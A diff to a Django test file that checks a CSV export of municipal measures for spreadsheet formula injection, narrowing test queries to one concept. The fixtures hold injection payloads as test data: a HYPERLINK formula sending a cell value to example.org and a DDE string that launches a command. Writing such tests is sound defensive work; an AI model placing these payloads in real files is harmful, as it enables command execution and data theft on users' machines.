@@ -22,6 +22,10 @@ from tests.test_public_progress import CONCEPT, HIDDEN, DemoTestCase, csv_rows, 
 #: What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
 DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
 
+#: The integration concept, whose Ergebnismatrix is at CONCEPT (the demo has a climate
+#: concept too, with measures and fields of the same numbers).
+INTEGRATION_CONCEPT = "steinfurt-2018-2021"
+
 
 class TestErgebnismatrixWithoutFormulas(DemoTestCase):
     @classmethod
@@ -30,7 +34,9 @@ class TestErgebnismatrixWithoutFormulas(DemoTestCase):
         # Measures 1.1 ... 2.1 get a title and a reason starting with each dangerous
         # character; field 1's title starts with "=".
         cls.expected = {}
-        measures = Measure.objects.filter(locale__language_code="de").order_by("sort_order")
+        measures = Measure.objects.filter(
+            locale__language_code="de", field_of_action__concept__slug=INTEGRATION_CONCEPT
+        ).order_by("sort_order")
         for char, measure in zip(DANGEROUS, measures, strict=False):
             measure.title = f'{char}HYPERLINK("http://example.org/?x="&A1;"Maßnahme")'
             measure.save()
@@ -38,7 +44,9 @@ class TestErgebnismatrixWithoutFormulas(DemoTestCase):
             update.reason = f"{char}1+2 Begründung"
             update.save()
             cls.expected[measure.number] = (measure.title, update.reason, update.date)
-        field = FieldOfAction.objects.get(locale__language_code="de", number="1")
+        field = FieldOfAction.objects.get(
+            locale__language_code="de", concept__slug=INTEGRATION_CONCEPT, number="1"
+        )
         field.title = "=cmd|' /C calc'!A0"
         field.save()
 
@@ -55,7 +63,11 @@ class TestErgebnismatrixWithoutFormulas(DemoTestCase):
         self.assertEqual(rows["3.3"][2:4], ["Erste-Hilfe-Kurse", "verschoben"])
 
     def test_a_number_stays_a_number_in_the_csv(self):
-        update = MeasureStatusUpdate.objects.filter(measure__number="3.3").latest("date")
+        update = MeasureStatusUpdate.objects.filter(
+            measure__field_of_action__concept__slug=INTEGRATION_CONCEPT,
+            measure__locale__language_code="de",
+            measure__number="3.3",
+        ).latest("date")
         update.reason = "-5"
         update.save()
         rows = {row[1]: row for row in csv_rows(self.fetch(CONCEPT + "ergebnismatrix/csv/"))}
